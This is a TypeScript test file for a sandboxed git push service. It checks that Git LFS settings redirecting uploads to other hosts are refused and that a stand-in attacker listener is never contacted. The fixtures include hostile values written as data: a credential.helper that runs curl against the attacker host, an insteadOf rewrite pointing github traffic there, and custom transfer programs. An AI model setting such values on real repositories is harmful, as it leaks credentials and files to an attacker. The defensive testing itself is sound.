import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { sandboxClient } from '../sandbox/client.ts';
import type { WorkTree } from '../sandbox/workTree.ts';
import { type EvilListener, startEvilListener } from './evilListener.ts';
import { lfsTree, requestsSince } from './lfsStage.ts';
import { type PushStage, startPushStage } from './pushStage.ts';

const own = 'https://github.com/acme/app.git/info/lfs';

describe('configuration that sends LFS elsewhere', function () {
  this.timeout(60_000);
  let stage: PushStage;
  let evil: EvilListener;
  before(async () => {
    stage = await startPushStage();
    evil = await startEvilListener();
  });
  after(async () => {
    await evil.close();
    await stage.close();
  });

  const places: readonly (readonly [string, () => string, string | undefined])[] = [
    ['another host', () => 'https://evil.example/acme/app', 'evil.example/acme/app'],
    ['a listener in the clear', () => `${evil.url}/acme/app`, undefined],
    ['the same host in the clear', () => 'http://github.com/acme/app.git/info/lfs', undefined],
    ['another repository of the same host', () => 'https://github.com/mona/app.git/info/lfs', undefined],
    ['a host that begins alike', () => 'https://github.com.evil.example/acme/app.git/info/lfs', undefined],
    [
      'a name before the host',
      () => `https://github.com@evil.example/acme/app.git/info/lfs`,
      'evil.example/acme/app.git/info/lfs',
    ],
    ['SSH', () => 'git@evil.example:acme/app.git', ''],
    ['a folder', () => '/srv/lfs', ''],
  ];
  const keys = ['lfs.url', 'lfs.pushurl', 'remote.origin.lfsurl', 'remote.origin.lfspushurl'];
  const cases = [
    ...places.map((place) => ['lfs.url', place] as const),
    ...keys.map((key) => [key, places[1] as (typeof places)[number]] as const),
  ];

  async function refused(
    tree: WorkTree,
  ): Promise<{ readonly kind: string; readonly to?: string; readonly source?: string }> {
    const start = stage.sandbox.log.length;
    const strangers = stage.sandbox.refused.length;
    const { problem } = await stage.refusal(tree);
    assert.deepEqual([requestsSince(stage, start), stage.sandbox.refused.slice(strangers)], [[], []]);
    assert.deepEqual([evil.connections(), evil.heard()], [0, '']);
    return problem;
  }

  for (const [index, [key, [title, address, to]]] of cases.entries()) {
    it(`A12 .lfsconfig: ${key} of ${title} is told, and nobody is spoken to`, async () => {
      const content = { 'a.bin': Buffer.from(`elsewhere ${index}`.repeat(20)) };
      const [section = '', ...rest] = key.split('.');
      const header = rest.length === 2 ? `[${section} "${rest[0]}"]` : `[${section}]`;
      const lines = `${header}\n\t${rest.at(-1)} = ${address()}\n`;
      const { tree } = await lfsTree(stage, `file-${index}`, content, { '.lfsconfig': lines });
      const problem = await refused(tree);
      assert.deepEqual([problem.kind, problem.source], ['lfsElsewhere', `.lfsconfig: ${key}`]);
      if (to !== undefined) assert.equal(problem.to, to);
    });

    it(`A12 the repository's own file: ${key} of ${title} is told too`, async () => {
      const { tree } = await lfsTree(stage, `own-${index}`, {
        'a.bin': Buffer.from(`elsewhere too ${index}`.repeat(20)),
      });
      await tree.git('config', key, address());
      const problem = await refused(tree);
      assert.deepEqual([problem.kind, problem.source], ['lfsElsewhere', key]);
    });
  }

  it('A12 is not asked about what git-lfs itself notes of a server, and no credentials are looked for there', async () => {
    const { tree, files } = await lfsTree(
      stage,
      'noted',
      { 'a.bin': Buffer.from('noted'.repeat(20)) },
      { '.lfsconfig': `[lfs]\n\turl = ${own}/\n[lfs "${evil.url}/x"]\n\taccess = basic\n` },
    );
    await tree.git('config', `lfs.${evil.url}/acme/app.git/info/lfs.access`, 'basic');
    await tree.git('config', `url.${evil.url}/.insteadOf`, 'https://github.com/');
    await tree.git('config', 'credential.helper', `!f() { curl -s ${evil.url}/helper; }; f`);
    await tree.git('config', 'lfs.customtransfer.basic.path', '/bin/false');
    const push = await stage.push(tree);
    assert.deepEqual(
      [push.kind, stage.sandbox.lfs.objects.has(files[0]?.oid ?? ''), evil.connections()],
      ['pushed', true, 0],
    );
  });

  it('A12 counts as it is in the pushed commit, not as it lies in the folder', async () => {
    const { tree } = await lfsTree(stage, 'in-folder', { 'a.bin': Buffer.from('folder'.repeat(20)) });
    await writeFile(join(tree.folder, '.lfsconfig'), `[lfs]\n\turl = ${evil.url}\n`);
    assert.deepEqual([(await stage.push(tree)).kind, evil.connections()], ['pushed', 0]);
  });

  it('that cannot be read, or that names a program for the transfer, ends the push', async () => {
    const broken = await lfsTree(
      stage,
      'broken',
      { 'a.bin': Buffer.from('broken'.repeat(20)) },
      { '.lfsconfig': '[lfs\n' },
    );
    assert.deepEqual(await refused(broken.tree), { kind: 'lfsConfigUnreadable' });
    const program = await lfsTree(stage, 'program', { 'a.bin': Buffer.from('program'.repeat(20)) });
    await program.tree.git('config', 'lfs.standalonetransferagent', 'evil');
    await program.tree.git('config', 'lfs.customtransfer.evil.path', '/bin/false');
    assert.deepEqual(await refused(program.tree), {
      kind: 'lfsProgram',
      source: 'lfs.standalonetransferagent',
    });
  });

  it('would be noticed: the proxy and the listener do record whoever is spoken to', async () => {
    const client = sandboxClient(stage.sandbox);
    const strangers = stage.sandbox.refused.length;
    await client.fetch('https://evil.example/').catch(() => undefined);
    await fetch(evil.url).catch(() => undefined);
    await client.close();
    assert.deepEqual(
      [stage.sandbox.refused.slice(strangers), evil.connections() > 0],
      [['evil.example:443'], true],
    );
  });
});
